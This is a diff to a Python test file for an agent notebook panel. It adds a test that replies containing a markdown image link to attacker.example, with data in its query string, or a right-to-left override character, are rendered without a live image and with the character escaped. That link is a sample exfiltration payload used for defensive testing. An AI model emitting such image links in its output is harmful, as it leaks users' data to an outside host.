@@ -15,6 +15,7 @@ from awf_nb.frontends.notebook.handle import AwfCellError, RunHandle
 from awf_nb.frontends.notebook.panel import RunPanel
 from awf_nb.frontends.notebook.panel_controls import SEND_PATIENCE, SEND_SETTLE
 from awf_nb.frontends.notebook.panel_items import clean_output, render_markdown
+from awf_nb.frontends.notebook.panel_static import static_html
 from awf_nb.frontends.notebook.reader import WidgetReader
 from awf_nb.frontends.notebook.stream_view import StreamHTML
 from tests.support.waiting import until
@@ -281,11 +282,12 @@ async def test_streamed_text_is_sent_at_flushes_not_per_token() -> None:
 
     for _ in range(100):
         panel.emit(ev.AgentText("r", "a", "tok "))
-    await asyncio.sleep(0.12)
+    assert panel.stats.flushes == 0  # 100 tokens, nothing sent yet: they wait for the timer
+    await until(lambda: panel.stats.flushes > 0, "the flusher's timer")
+    assert (panel.stats.flushes, panel.stats.updates) == (1, 1)  # one update for them all
     panel.emit(ev.TurnFinished("r", "a", 1, tokens=100, duration=0.1, text="tok " * 100))
 
-    assert 1 <= len(sent) <= 3
-    assert sent[-1].count("tok") == 100
+    assert sent[-1].count("tok") == 100  # the reply's final text
 
 
 async def test_tool_uses_warnings_and_logs_are_shown() -> None:
@@ -321,6 +323,20 @@ def test_markdown_is_rendered_with_raw_html_escaped() -> None:
     assert "<img" not in rendered
     assert 'href="javascript:' not in rendered
     assert '<code class="language-python">' in rendered
+
+
+async def test_the_live_panel_and_its_saved_html_load_no_remote_image() -> None:
+    reply = "Look: ![chart](https://attacker.example/?d=notes) and x\u202ey."
+    panel, handle = start(conversation([reply]), interactive=False)
+    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)
+
+    assert result.ok, result.error
+    (shown,) = [html for kind, html in bubbles(panel) if kind == "awf-assistant"]
+    saved = static_html(panel.widget)
+    for html in (shown, saved):
+        assert "<img" not in html
+        assert 'class="awf-remote-image" href="https://attacker.example/?d=notes"' in html
+        assert "x⟨U+202E⟩y" in html and "\u202e" not in html
 
 
 def test_clean_output() -> None:
